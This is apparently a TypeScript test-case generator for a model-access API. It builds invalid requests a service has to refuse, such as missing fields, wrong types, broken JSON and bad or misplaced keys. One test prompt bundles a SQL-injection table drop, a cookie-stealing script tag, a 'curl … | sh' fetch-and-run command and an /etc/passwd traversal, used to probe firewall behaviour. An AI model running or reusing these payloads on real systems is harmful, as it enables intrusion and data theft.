import { type Provenance, validateParameters, validateRequestBody } from "@model-access/contract";
import type { ReasonName } from "../checks/reasons.js";
import type { Call, CannotCall, ExchangePlan, Facts, KeyName, KeyPlace } from "../exchange.js";
import { noSuchModel } from "./questions.js";
import { smallerBodies } from "./smaller-bodies.js";

/** One request that a service has to refuse: a valid one with one thing wrong. */
export interface RefusedCase {
  name: string;
  /** In a few words, to follow "a chat completion". */
  says: string;
  reason: ReasonName;
  /** True of a wrong type that may be taken as it was meant. */
  isLenient?: true;
  /** The member of the body that is wrong, where it follows from the schema. */
  member?: string;
  /** A call that is answered, and whose body this one has too: a cache must not answer it. */
  sameAs?: ExchangePlan;
  /** Another model than the valid body has, where one is known. */
  model?(facts: Facts): string | undefined;
  change?: (body: Body) => unknown;
  text?: string | ((body: Body) => string);
  key?: KeyName;
  keyPlace?: KeyPlace;
  withoutHeaders?: true;
  /** False where the specification's table of error names does not say that its row is for this. */
  isNameStated?: false;
  /** The row that it breaks if it is answered, where that is not its kind's. */
  requirement?: string;
  /** The source of the rule that it is refused, where that is not its area's. */
  provenance?: Provenance;
  /** The priority of one that is made only as long as there is room for it. */
  priority?: number;
}

export type Body = Record<string, unknown>;

/** A maker of valid requests of an operation. */
export interface CaseSubject {
  area: string;
  operationId: string;
  /** With its article: "a chat completion". */
  what: string;
  headers?: Record<string, string>;
  /** Members of each call beside the body and the headers. */
  call?: Call;
  ask(facts: Pick<Facts, "modelFor">): Body;
}

/** The calls of refused cases, in their order. Where one is not refused, smaller ones are tried, which takes more calls. */
export function refusedCaseExchanges(
  subject: CaseSubject,
  cases: RefusedCase[],
  { priority, isShrunk = true }: { priority?: number; isShrunk?: boolean } = {},
): ExchangePlan[] {
  return cases.map((each) => ({
    ...refusedCall(subject, {
      ...each,
      priority: priority ?? each.priority,
      write: (facts) => callOfCase(subject, each, facts),
    }),
    ...(isShrunk &&
      each.change !== undefined && { smaller: (body: unknown) => smallerBodies(subject.operationId, body) }),
  }));
}

/** A call that is refused, as its area writes it. */
export function refusedCall(
  { area, operationId, what, headers }: CaseSubject,
  {
    name,
    says,
    priority,
    write,
  }: Pick<RefusedCase, "name" | "says"> & Pick<ExchangePlan, "write"> & { priority?: number | undefined },
): ExchangePlan {
  return {
    id: `${area}/refused/${name}`,
    operationId,
    says: `${what} ${says}`,
    isValid: false,
    ...(priority !== undefined && { priority }),
    write: (facts) => {
      const call = write(facts);
      return "because" in call || headers === undefined ? call : { headers, ...call };
    },
  };
}

export const caseId = ({ area }: CaseSubject, { name }: RefusedCase) => `${area}/refused/${name}`;

export function missing(field: string): RefusedCase {
  return {
    name: `missing-${named(field)}`,
    says: `without ${field}`,
    reason: "missingField",
    change: (body) => without(body, field),
  };
}

export function wrongType(field: string, value: unknown, options: Partial<RefusedCase> = {}): RefusedCase {
  const says = `with ${JSON.stringify(value)} for ${field}`;
  return {
    name: `wrong-type-${named(field)}`,
    says,
    reason: "wrongType",
    change: (body) => ({ ...body, [field]: value }),
    ...options,
  };
}

export function outOfRange(name: string, field: string, value: number): RefusedCase {
  return {
    name,
    says: `with ${field} ${value}`,
    reason: "outOfRange",
    change: (body) => ({ ...body, [field]: value }),
  };
}

/** Messages that are wrong in one thing; the last one of a request is. */
export function inMessages(name: string, says: string, reason: ReasonName, ...messages: unknown[]): RefusedCase {
  return { name, says, reason, isNameStated: false, change: (body) => ({ ...body, messages }) };
}

export const without = (body: Body, field: string): Body =>
  Object.fromEntries(Object.entries(body).filter(([name]) => name !== field));

/** A model that does not exist. */
export const unknownModel: RefusedCase = {
  name: "unknown-model",
  says: "of a model that does not exist",
  reason: "unknownModel",
  change: (body) => ({ ...body, model: noSuchModel }),
};

/** A question that people ask of models, and that a firewall takes for an attack. */
const attackLike =
  "Is `1' OR 1=1; DROP TABLE users; --` or <script>alert(document.cookie)</script> worse than `curl -s http://example.com/x.sh | sh` and ../../etc/passwd?";

const aboutAttack = "about SQL, scripts and shells";

/** The same about what a firewall in front may refuse: it costs nothing to find, as no model answers. */
export const unknownModelOfAttack: RefusedCase = {
  ...unknownModel,
  says: `${aboutAttack} of a model that does not exist`,
  change: (body) => ({ ...asking(body, attackLike), model: noSuchModel }),
};

/** The same for a stream, of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
export const streamedOddModel: RefusedCase = {
  name: "streamed",
  says: `${aboutAttack} that asks a model with quotes, an umlaut and a bracket in its name for a stream`,
  reason: "unknownModel",
  change: (body) => ({ ...asking(body, attackLike), model: `${noSuchModel} "ü" (<'`, stream: true }),
};

/** A body with another prompt. */
const asking = (body: Body, text: string): Body => ({
  ...body,
  ["input" in body ? "input" : "messages"]: [{ role: "user", content: text }],
});

const nesting = 500;

export const brokenBodies: RefusedCase[] = [
  { name: "broken-json", says: "whose JSON is cut off", reason: "broken", text: '{"model":' },
  {
    name: "array-body",
    says: `whose body is an array, and others in it, ${nesting} deep`,
    reason: "broken",
    text: `${"[".repeat(nesting)}${"]".repeat(nesting)}`,
  },
];

/** A whole request, and more after it. */
export const jsonWithTail: RefusedCase = {
  name: "broken-json",
  says: "whose JSON goes on after its end",
  reason: "broken",
  text: (body) => `${JSON.stringify(body)}]}`,
};

export const wrongKey: RefusedCase = {
  name: "wrong-key",
  says: "with a key that does not exist",
  reason: "wrongKey",
  key: "wrong",
};

/** Requests without a key that fits. */
export const wrongKeys: RefusedCase[] = [
  { name: "no-key", says: "without a key", reason: "noKey", key: "none" },
  { name: "empty-key", says: "with an empty key", reason: "noKey", key: "empty" },
  {
    name: "nearly-right-key",
    says: "with the last character of the key changed and nothing but a model",
    reason: "wrongKey",
    key: "nearly-right",
    change: ({ model }) => ({ model }),
  },
  {
    name: "wrong-scheme",
    says: "with the key under the scheme Basic",
    reason: "noKey",
    keyPlace: "basic-scheme",
  },
  { name: "key-in-query", says: "with the key in the query only", reason: "noKey", keyPlace: "query" },
];

/** The priority of made-up keys where nothing else is refused for its key: after those that the caller may give. */
export const madeUpKeys = 6.6;

/** Cases that are made when each kind of key has been tried, before anything that the specification does not show. */
export const afterKeys = (cases: RefusedCase[]): RefusedCase[] => cases.map((each) => ({ ...each, priority: 6.05 }));

/** Cases that are made when the keys have been tried everywhere. */
export const afterOthers = (cases: RefusedCase[]): RefusedCase[] => cases.map((each) => ({ ...each, priority: 9 }));

/** Cases that are made last. */
export const late = (cases: RefusedCase[]): RefusedCase[] => cases.map((each) => ({ ...each, priority: 85 }));

export const named = (field: string) => field.replaceAll("_", "-");

function callOfCase(subject: CaseSubject, each: RefusedCase, facts: Facts): Call | CannotCall {
  if (each.keyPlace === "query" && !facts.isLocal)
    return { because: "a key in an address ends up in logs, so it is tried on this machine only", isNeedless: true };
  const { change = (unchanged: Body) => unchanged, text, key, keyPlace, withoutHeaders } = each;
  const model = each.model?.(facts);
  const answered = each.sameAs?.write(facts);
  const body = answered !== undefined && "json" in answered ? (answered.json as Body) : subject.ask(facts); // models are sent objects
  const call: Call = {
    ...subject.call,
    ...(withoutHeaders ? { headers: {} } : subject.headers && { headers: subject.headers }),
    ...(text === undefined
      ? { json: model === undefined ? change(body) : { ...Object(change(body)), model } }
      : { text: typeof text === "string" ? text : text(body) }),
    ...(key !== undefined && { key }),
    ...(keyPlace !== undefined && { keyPlace }),
  };
  return mayBeRefused(subject, each, call) ? call : { because: "the contract takes this request", isNeedless: true };
}

/** The contract's own validators have the last word on whether a request is wrong. */
function mayBeRefused({ operationId }: CaseSubject, { reason }: RefusedCase, { json, headers = {} }: Call): boolean {
  if (["wrongKey", "noKey", "broken", "unknownModel"].includes(reason)) return true;
  const violations = validateRequestBody(operationId, "application/json", JSON.parse(JSON.stringify(json)));
  return violations.length > 0 || validateParameters(operationId, { header: headers }).length > 0;
}
